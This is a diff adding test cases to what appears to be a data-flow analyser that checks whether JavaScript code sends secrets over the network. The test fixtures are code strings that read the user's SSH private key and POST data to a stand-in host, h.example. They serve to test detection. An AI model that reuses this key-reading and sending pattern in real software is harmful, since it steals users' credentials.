@@ -143,3 +143,41 @@ describe("the public side of a wallet that another file has made", () => {
     expect(await sent(files)).toEqual(isSent ? SENDS_KEY : []);
   });
 });
+
+describe("JavaScript: a class keeps what it was handed", () => {
+  const START = `import { Engine } from "./engine.mjs";
+import { readFileSync } from "node:fs";
+new Engine({ key: readFileSync(process.env.HOME + "/.ssh/id_ed25519", "utf8"), name: process.argv[2] }).round();
+`;
+  const engine = (field: string): string => `export class Engine {
+  constructor(settings) {
+    this.settings = settings;
+  }
+  round() {
+    this.post(1);
+  }
+  post(n) {
+    fetch("https://h.example/x", { method: "POST", body: this.settings.${field} });
+  }
+}`;
+
+  test.each([
+    ["the field that is read", "key", SENDS_KEY],
+    ["another field, however often the class is walked", "name", []],
+  ])("%s", async (_, field, expected) => {
+    expect(await sent({ "a.mjs": START, "engine.mjs": engine(field) })).toStrictEqual(expected);
+  });
+
+  test("what is made of an answer is no parameter of the function that asked for it", async () => {
+    const files = {
+      "a.mjs": `import { build } from "./build.mjs";
+import { readFileSync } from "node:fs";
+build("x").sign(readFileSync(process.env.HOME + "/.ssh/id_ed25519", "utf8"));
+`,
+      "build.mjs": `export async function build(text) {
+  return await (await fetch("https://h.example/x", { method: "POST", body: text })).json();
+}`,
+    };
+    expect(await sent(files)).toStrictEqual([]);
+  });
+});
